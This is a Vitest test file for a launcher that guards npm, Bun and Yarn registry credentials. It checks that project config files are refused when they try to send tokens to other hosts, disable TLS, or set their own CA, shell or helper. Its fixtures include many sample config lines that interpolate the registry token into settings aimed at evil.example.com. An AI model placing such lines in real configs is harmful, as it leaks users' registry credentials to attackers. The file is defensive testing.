import { describe, expect, test } from 'vitest'
import { parseAddress } from '../../../src/core/endpoint.ts'
import { bunLauncher } from '../../../src/tools/bun/launch.ts'
import { npmLauncher } from '../../../src/tools/npm/launch.ts'
import { yarnLauncher } from '../../../src/tools/yarn/launch.ts'
import { launching, readByProgram } from '../launching.ts'

/*
 * A project is a stranger's. Nothing that its files say may carry a credential to another place than its own, and no
 * line that tries is passed over: it is named, and nothing starts.
 */

const good = 'https://good.example.com'

async function victim(launcher = npmLauncher, tool = 'npm') {
  const it = launching(launcher)
  it.put('.npmrc', `registry=${good}/\n`)
  await it.save(tool, good, 'the-token')
  return it
}

describe('npm', () => {
  test.each([
    [
      'another host with what npm keeps for ours',
      '//evil.example.com/:_authToken=${npm_config_//good.example.com/:_authToken}',
    ],
    ['the same, optional', '//evil.example.com/:_authToken=${npm_config_//good.example.com/:_authToken?}'],
    ['in capitals', '//evil.example.com/:_authToken=${NPM_CONFIG_//good.example.com/:_authToken}'],
    ['written in JSON', '//evil.example.com/:_authToken="\\u0024{npm_config_//good.example.com/:_authToken}"'],
    ['in the address itself', 'registry=https://evil.example.com/${npm_config_//good.example.com/:_authToken}/'],
    ['in the name of a setting', '//evil.example.com/${npm_config_//good.example.com/:_authToken}:_authToken=x'],
    ['in a section', '[x]\n//evil.example.com/:_authToken=${npm_config_//good.example.com/:_authToken}'],
    ['behind a comment that ends in CR', '; harmless\r//evil.example.com/:_authToken=${npm_config_//x:y}'],
    ['a variable of ours', 'user-agent=${CREDBRIDGE_0123456789ABCDEF}'],
    ['a store of ours', '//evil.example.com/:_authToken=${CREDBRIDGE_STORE}'],
    ['no check of the server', 'https-proxy=http://evil.example.com\nstrict-ssl=false'],
    ['its own authority', 'cafile=./evil.pem'],
    ['its own authority in the file', 'ca="-----BEGIN CERTIFICATE-----"'],
    ['its own authority for our host', '//good.example.com/:cafile=./evil.pem'],
    ['a program for git', 'git=evil'],
    ['a helper', '//good.example.com/:tokenHelper=/tmp/evil'],
    ['a shell of its own', 'script-shell=./evil.sh'],
    ['an editor of its own, by absolute path', 'editor=$HOME/project/evil.sh'],
    ['another configuration', 'globalconfig=./evil'],
    ['another place for all of them', 'prefix=/tmp/evil'],
    ['a file to run, bare', 'init-module=evil.js'],
    ['a variable in the name of a setting', 'strict${NOT_SET?}-ssl=false'],
    ['our host without encryption', 'registry=http://good.example.com/\n@x:registry=https://good.example.com/'],
    ['our host without encryption, deeper', '@x:registry=http://good.example.com/deeper/'],
  ])('%s', async (_name, text) => {
    const it = await victim()
    const written = text.replaceAll('$HOME', it.home)
    const file = it.put('project/.npmrc', written)
    await it.save('npm', good, 'the-token')
    const failure = await it.call('npm', ['install']).catch((error: unknown) => error)
    expect(failure).toMatchObject({ code: 'refused', message: expect.stringContaining(`${file}, line `) })
    expect(String(failure)).not.toContain('the-token')
    expect(it.started).toEqual([])
  })

  test('a proxy may stand between us and an encrypted registry only', async () => {
    const it = launching(npmLauncher)
    it.put('.npmrc', 'registry=https://good.example.com/\n@near:registry=http://127.0.0.1:4873/\n')
    await it.save('npm', good, 'the-token')
    it.put('project/.npmrc', 'proxy=http://proxy.example.com\nhttps-proxy=http://proxy.example.com\n')
    expect(await it.call('npm', ['install'])).toBeDefined()
    await it.save('npm', 'http://127.0.0.1:4873', 'near')
    for (const line of ['proxy', 'http-proxy', 'https-proxy']) {
      it.put('project/.npmrc', `${line}=http://proxy.example.com\n`)
      await expect(it.call('npm', ['install'])).rejects.toMatchObject({
        code: 'refused',
        message: expect.stringContaining('names a proxy that would read the credential for http://127.0.0.1:4873'),
      })
    }
  })

  test('the line is named, not repeated', async () => {
    const it = await victim()
    const file = it.put('project/.npmrc', '# one\nemail=x\n//evil.example.com/:_authToken=${npm_config_//good:x}\n')
    await expect(it.call('npm', ['install'])).rejects.toMatchObject({
      message: `${file}, line 3: asks for a credential by the name of its variable`,
    })
  })

  test('a folder that the words name is looked at, too', async () => {
    const it = await victim()
    it.put('project/deeper/.npmrc', '//evil.example.com/:_authToken=${npm_config_//good:x}\n')
    await expect(it.call('npm', ['install', '--prefix', 'deeper'])).rejects.toMatchObject({ code: 'refused' })
    await expect(it.call('npm', ['install', '-C', 'deeper'])).rejects.toMatchObject({ code: 'refused' })
  })

  test('publishConfig cannot take the encryption away', async () => {
    const it = await victim()
    const file = it.put('project/package.json', '{\n  "publishConfig": { "registry": "http://good.example.com/" }\n}')
    await expect(it.call('npm', ['publish'])).rejects.toMatchObject({
      message: expect.stringContaining(`${file}, line 2`),
    })
  })

  test('a registry that the user has not enabled gets nothing, whatever the project says about it', async () => {
    const it = await victim()
    it.put(
      'project/.npmrc',
      'registry=https://evil.example.com/\n@x:registry=https://good.example.com.evil.example.com/\n',
    )
    expect((await it.call('npm', ['install']))?.file).toBeUndefined()
    it.put(
      'project/.npmrc',
      'registry=https://evil@good.example.com/\n@x:registry=https://good.example.com@evil.example.com/',
    )
    expect(readByProgram((await it.call('npm', ['install'])) ?? { words: [], env: {} })[0]).toBe(
      '//good.example.com/:_authToken=the-token',
    )
  })

  test.each([
    'script-shell=/bin/bash',
    'script-shell=bash',
    'strict-ssl=true',
    'node-options=--max-old-space-size=8192',
    '; //evil.example.com/:_authToken=${npm_config_//good.example.com/:_authToken}',
    '//evil.example.com/:_authToken=${NPM_TOKEN}',
  ])('what projects say in earnest goes on: %s', async (line) => {
    const it = await victim()
    it.put('project/.npmrc', `${line}\n`)
    expect(await it.call('npm', ['install'])).toBeDefined()
  })

  test('where nothing is given, only what reaches for a secret is refused', async () => {
    const it = launching(npmLauncher)
    it.put('project/.npmrc', 'strict-ssl=false\ncafile=./ours.pem\nregistry=http://good.example.com\n')
    expect(await it.call('npm', ['install'])).toBeDefined()
  })

  test('a variable that a person named may stand at its own endpoint, and nowhere else', async () => {
    const it = await victim()
    const named: [string, ReturnType<typeof parseAddress>][] = [['NPM_TOKEN', parseAddress(good)]]
    it.put('project/.npmrc', '//good.example.com/:_authToken=${NPM_TOKEN}\n')
    expect(await it.call('npm', ['publish'], { asked: true, named })).toBeDefined()
    for (const line of [
      '//evil.example.com/:_authToken=${NPM_TOKEN}',
      'user-agent=${NPM_TOKEN-x}',
      'a=${NPM_TOKEN?}',
    ]) {
      it.put('project/.npmrc', `${line}\n`)
      await expect(it.call('npm', ['publish'], { asked: true, named })).rejects.toMatchObject({ code: 'refused' })
    }
  })
})

describe('Bun', () => {
  test.each([
    ['.npmrc', '//evil.example.com/:_authToken=$npm_config_//good.example.com/:_authToken'],
    ['.npmrc', 'cafile=./evil.pem'],
    [
      'bunfig.toml',
      '[install]\nregistry = { url = "https://evil.example.com", token = "$npm_config_//good/:_authToken" }',
    ],
    ['bunfig.toml', '[install]\nregistry = { url = "https://evil.example.com", token = "\\u0024CREDBRIDGE_X" }'],
    ['bunfig.toml', '[install.scopes]\nx = { url = "https://evil.example.com", token = "$CREDBRIDGE_X" }'],
    ['bunfig.toml', '[install]\ncafile = "./evil.pem"'],
    ['bunfig.toml', '[install]\nca = ["-----BEGIN"]'],
    ['bunfig.toml', '[install.security]\nscanner = "evil"'],
    ['bunfig.toml', '[install.scopes]\nx = "http://good.example.com/"'],
    ['.env', 'NODE_TLS_REJECT_UNAUTHORIZED=0'],
    ['.env.local', '  export NODE_EXTRA_CA_CERTS=evil.pem'],
    ['.env.production', 'A=1\nBUN_CONFIG_REGISTRY=http://good.example.com/'],
    ['.env', 'npm_config_userconfig=evil'],
    ['.env', 'XDG_CONFIG_HOME=evil'],
  ])('%s: %s', async (name, text) => {
    const it = await victim(bunLauncher, 'bun')
    const file = it.put(`project/${name}`, `${text}\n`)
    await expect(it.call('bun', ['install'])).rejects.toMatchObject({
      code: 'refused',
      message: expect.stringContaining(`${file}, line `),
    })
    expect(it.started).toEqual([])
  })

  test('a project chooses among what is enabled', async () => {
    const it = await victim(bunLauncher, 'bun')
    it.put('project/bunfig.toml', '[install.scopes]\nteam = { url = "https://team.example.com/npm/" }\n')
    it.put('project/.env', 'DATABASE_URL=x\n')
    await it.save('bun', 'https://team.example.com', 'team')
    const started = await it.call('bun', ['install'])
    expect(started === undefined ? [] : readByProgram(started)).toEqual([
      '//team.example.com/npm/:_authToken=team',
      '//team.example.com/:_authToken=team',
      '//good.example.com/:_authToken=the-token',
      'registry=https://good.example.com/',
    ])
  })
})

describe('Yarn', () => {
  test.each([
    'npmRegistries:\n  "//evil.example.com":\n    npmAuthToken: "${npm_config_//good.example.com/:_authToken}"',
    'npmAuthToken: "${CREDBRIDGE_STORE}"',
    'httpsProxy: "http://evil.example.com/${CREDBRIDGE_X-}"',
  ])('%s', async (text) => {
    const it = await victim(yarnLauncher, 'yarn')
    const file = it.put('project/.yarnrc.yml', `${text}\n`)
    await expect(it.call('yarn', ['install'])).rejects.toMatchObject({
      code: 'refused',
      message: expect.stringContaining(`${file}, line `),
    })
    expect(it.started).toEqual([])
  })

  test('nothing but the plugin is in the environment', async () => {
    const it = await victim(yarnLauncher, 'yarn')
    it.put('project/.yarnrc.yml', `npmRegistryServer: "${good}"\n`)
    const started = await it.call('yarn', ['install'], { asked: true })
    expect(started?.env).toEqual({ CREDBRIDGE_DEPTH: '1', YARN_PLUGINS: `${it.world.places.data}/yarn/plugin.cjs` })
    expect(it.world.files.read(started?.env['YARN_PLUGINS'] ?? '')).toContain('"/opt/credbridge/credbridge-yarn"')
  })

  test('a variable that a person named may stand for its own registry, and for no other', async () => {
    const it = await victim(yarnLauncher, 'yarn')
    const named: [string, ReturnType<typeof parseAddress>][] = [['TOKEN', parseAddress(good)]]
    const call = () => it.call('yarn', ['install'], { asked: true, named })
    for (const text of [
      'npmAuthToken: "${TOKEN}"',
      `npmRegistryServer: "${good}"\nnpmAuthToken: "\${TOKEN:-}"`,
      'npmRegistries:\n  "//good.example.com":\n    npmAuthToken: "${TOKEN}"',
      `npmScopes:\n  a:\n    npmRegistryServer: "${good}"\n    npmAuthToken: \${TOKEN}`,
    ]) {
      it.put('project/.yarnrc.yml', `${text}\n`)
      expect(await call()).toBeDefined()
    }
    for (const text of [
      'npmRegistryServer: "https://evil.example.com"\nnpmAuthToken: "${TOKEN}"',
      'npmRegistries:\n  "//evil.example.com":\n    npmAuthToken: "${TOKEN}"',
      'npmRegistries: { "//evil.example.com": { npmAuthToken: "${TOKEN}" } }',
      'httpsProxy: "http://evil.example.com/${TOKEN}"',
    ]) {
      it.put('project/.yarnrc.yml', `${text}\n`)
      await expect(call()).rejects.toMatchObject({ code: 'refused' })
    }
  })
})
